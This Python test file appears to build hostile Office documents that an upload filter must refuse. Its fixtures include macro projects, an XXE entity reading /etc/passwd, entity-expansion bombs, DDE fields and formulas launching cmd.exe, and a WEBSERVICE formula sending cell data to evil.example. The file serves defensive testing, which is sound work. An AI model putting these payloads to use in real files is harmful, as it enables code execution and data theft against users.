"""Office files that run, fetch or hide something, or are not what they seem."""

from tests.security.hostile.archives import OLE
from tests.security.hostile.cases import refused
from tests.security.hostile.zips import OOXML, docx, office, pptx, relations, xlsx, zipped

_MACRO = "application/vnd.ms-"


def _related(kind: str, target: str, *, external: bool = False) -> dict[str, bytes | str]:
    """Relationships of the main part of a Word file."""
    rows = relations((kind, target), external=external)
    return {"word/_rels/document.xml.rels": rows}


def _with_part(part: str, content: bytes | str, kind: str, content_type: str) -> bytes:
    """A Word file with one part more."""
    parts = _related(kind, part.removeprefix("word/")) | {part: content}
    return docx(parts=parts, overrides={part: content_type} if content_type else {})


@refused("macros", "letter.docx")
def macros() -> bytes:
    return _with_part(
        "word/vbaProject.bin", OLE,
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        f"{_MACRO}office.vbaProject",
    )  # fmt: skip


@refused("macros", "letter.docx")
def macro_format_under_another_name() -> bytes:
    return docx(main_type=f"{_MACRO}word.document.macroEnabled.12")


@refused("macros", "letter.docx")
def renamed_macros() -> bytes:
    return _with_part("word/picture.bin", OLE, "image", f"{_MACRO}office.vbaProject")


@refused("macros", "letter.docx")
def control() -> bytes:
    return _with_part(
        "word/activeX/activeX1.xml", "<ax/>", "control", f"{_MACRO}office.activeX+xml"
    )


@refused("macros", "letter.docx")
def own_ribbon() -> bytes:
    return _with_part("customUI/customUI.xml", "<customUI/>", "extensibility", "application/xml")


@refused("macros", "letter.docx")
def web_extension() -> bytes:
    return _with_part(
        "word/webextensions/webextension1.xml", "<we/>", "webextension",
        f"{_MACRO}office.webextension+xml",
    )  # fmt: skip


@refused("external", "letter.docx")
def template_elsewhere() -> bytes:
    settings = '<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="rId1"/></w:settings>'
    parts = _related("settings", "settings.xml") | {
        "word/settings.xml": settings,
        "word/_rels/settings.xml.rels": relations(
            ("attachedTemplate", "https://evil.example/a.dotm"), external=True
        ),
    }
    return docx(parts=parts, overrides={"word/settings.xml": "wordprocessingml.settings+xml"})


@refused("external", "letter.docx")
def linked_picture() -> bytes:
    return docx(parts=_related("image", "https://evil.example/a.png", external=True))


@refused("external", "letter.docx")
def linked_object() -> bytes:
    return docx(parts=_related("oleObject", "https://evil.example/a.doc", external=True))


@refused("external", "letter.docx")
def link_to_a_share() -> bytes:
    return docx(parts=_related("hyperlink", "file://evil.example/share/a", external=True))


@refused("external", "letter.docx")
def picture_by_address() -> bytes:
    return docx('<w:p><v:shape><v:imagedata src="https://evil.example/a.png"/></v:shape></w:p>')


@refused("external", "letter.docx")
def page_within() -> bytes:
    part = "word/chunk.html"
    return docx(parts=_related("aFChunk", "chunk.html") | {part: "<script>alert(1)</script>"})


@refused("external", "letter.docx")
def addressed_mail() -> bytes:
    settings = '<w:settings xmlns:w="w"><w:mailMerge/></w:settings>'
    return _with_part("word/settings.xml", settings, "settings", "wordprocessingml.settings+xml")


@refused("external", "letter.docx")
def field_of_another_program() -> bytes:
    return docx(
        '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k&quot; "/></w:p>'
    )


@refused("external", "letter.docx")
def divided_field() -> bytes:
    return docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText>'
        '</w:r><w:r><w:instrText>PICTURE "https://evil.example/a.png"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@refused("naming_field", "letter.docx")
def field_with_the_authors_name() -> bytes:
    return docx('<w:p><w:fldSimple w:instr=" AUTHOR "><w:r><w:t>Z</w:t></w:r></w:fldSimple></w:p>')


@refused("drawing", "letter.docx")
def metafile() -> bytes:
    return _with_part("word/media/image1.emf", b"\1\0\0\0" * 30, "image", "")


@refused("picture", "letter.docx")
def broken_picture() -> bytes:
    return _with_part("word/media/image1.png", b"\x89PNG\r\n\x1a\nbroken", "image", "")


@refused("media", "letter.docx")
def video() -> bytes:
    return _with_part("word/media/media1.mp4", b"\0\0\0\x18ftypmp42", "video", "")


@refused("unknown_part", "letter.docx")
def unknown_part() -> bytes:
    return _with_part("word/surprise.dat", b"?", "surprise", "application/x-surprise")


@refused("entities", "letter.docx")
def outer_entity() -> bytes:
    body = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    return zipped(office("docx", body))


@refused("entities", "letter.docx")
def entities_without_end() -> bytes:
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(97 + n)} "{f"&{chr(96 + n)};" * 10}">' for n in range(1, 9)
    )
    return zipped(office("docx", f"<!DOCTYPE a [{entities}]><a>&i;</a>"))


@refused("entities", "letter.docx")
def entity_in_wide_letters() -> bytes:
    body = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    return zipped(office("docx", body) | {"word/document.xml": body.encode("utf-16")})


@refused("damaged", "letter.docx")
def broken_xml() -> bytes:
    return zipped(office("docx", "<w:document>"))


@refused("damaged", "letter.docx")
def elements_within_elements() -> bytes:
    return zipped(office("docx", "<a>" * 100_000 + "</a>" * 100_000))


@refused("macros", "table.xlsx")
def old_macro_sheet() -> bytes:
    return xlsx(
        parts={"xl/macrosheets/sheet1.xml": "<xm:macrosheet xmlns:xm='m'/>"},
        overrides={"xl/macrosheets/sheet1.xml": f"{_MACRO}excel.macrosheet+xml"},
    )


@refused("macros", "table.xlsx")
def old_macro_name() -> bytes:
    names = '<definedNames><definedName name="Auto_Open" xlm="1">Sheet!$A$1</definedName>'
    return xlsx(book=f"{names}</definedNames>")


@refused("formula", "table.xlsx")
def formula_of_another_program() -> bytes:
    return xlsx("<c r='A1'><f>cmd|'/c calc'!A0</f><v>0</v></c>")


@refused("formula", "table.xlsx")
def formula_that_fetches() -> bytes:
    return xlsx('<c r="A1"><f>WEBSERVICE("https://evil.example/"&amp;A2)</f></c>')


@refused("formula", "table.xlsx")
def formula_with_a_path() -> bytes:
    return xlsx('<c r="A1"><f>CELL("filename")</f><v>x</v></c>')


@refused("external", "table.xlsx")
def link_in_a_formula() -> bytes:
    return xlsx('<c r="A1"><f>HYPERLINK("file:///C:/a.exe","x")</f></c>')


@refused("external", "table.xlsx")
def values_of_another_table() -> bytes:
    return xlsx(
        parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>"},
        overrides={"xl/externalLinks/externalLink1.xml": "spreadsheetml.externalLink+xml"},
    )


@refused("external", "table.xlsx")
def data_connection() -> bytes:
    return xlsx(
        parts={"xl/connections.xml": "<connections/>"},
        overrides={"xl/connections.xml": "spreadsheetml.connections+xml"},
    )


@refused("action", "slides.pptx")
def program_behind_a_shape() -> bytes:
    return pptx('<p:sp><p:cNvPr id="1" name="x"><a:hlinkClick action="ppaction://program"/>'
                "</p:cNvPr></p:sp>")  # fmt: skip


@refused("action", "slides.pptx")
def macro_behind_a_shape() -> bytes:
    return pptx('<p:sp><p:cNvPr id="1" name="x"><a:hlinkHover action="ppaction://macro?name=a"/>'
                "</p:cNvPr></p:sp>")  # fmt: skip


@refused("media", "slides.pptx")
def sound_of_a_transition() -> bytes:
    return pptx('<p:snd r:embed="rId9" name="a.wav"/>')


@refused("unknown_part", "table.xlsx")
def table_within_a_picture_folder() -> bytes:
    return xlsx(parts={"xl/media/a.xlsx": xlsx()}, overrides={
        "xl/media/a.xlsx": f"{OOXML}.spreadsheetml.sheet"})  # fmt: skip
